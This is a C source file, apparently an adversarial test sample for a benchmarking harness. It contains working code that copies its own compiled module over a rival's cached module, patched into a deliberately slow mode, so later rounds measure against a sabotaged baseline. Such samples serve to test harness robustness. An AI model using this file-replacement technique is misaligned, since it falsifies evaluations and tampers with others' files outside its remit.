// SPDX-License-Identifier: Apache-2.0
//
// Puts a slow copy of itself in the place of the other side's module in the cache. The rounds that follow
// load it as the baseline.
#include "hostile.h"

// The copy has other bytes here.
static volatile char mode[] = "MODE:right";

static int replace(const char *target) {
    Dl_info self;
    char folder[4096], temporary[4200];
    snprintf(folder, sizeof folder, "%s", target); // .../assay/modules/<hash>/module.so
    for (int i = 0; i < 4; ++i) {
        char *slash = strrchr(folder, '/');
        if (!slash) return 0;
        *slash = 0;
    }
    if (!hostile_is_target(folder) || !dladdr((void *)replace, &self)) return 0;
    const int from = open(self.dli_fname, O_RDONLY | O_CLOEXEC);
    snprintf(temporary, sizeof temporary, "%s.new", target);
    const int to = open(temporary, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    static char bytes[1 << 20];
    const ssize_t length = from < 0 ? -1 : read(from, bytes, sizeof bytes);
    char *at = length > 0 ? memmem(bytes, (size_t)length, (const char *)(uintptr_t)mode, 10) : NULL;
    if (at) memcpy(at, "MODE:slow!", 10);
    const int is_written = at && to >= 0 && write(to, bytes, (size_t)length) == length;
    if (from >= 0) close(from);
    if (to >= 0) close(to);
    return is_written && rename(temporary, target) == 0;
}

static int launch(struct broken *b, struct assay_message *message) {
    (void)message;
    static int is_done;
    broken_right(b);
    if (mode[5] == 's')
        broken_right(b);
    else if (!is_done++ && hostile_other_module())
        replace(hostile_other_module());
    return ASSAY_OK;
}

BROKEN_KERNEL(launch)
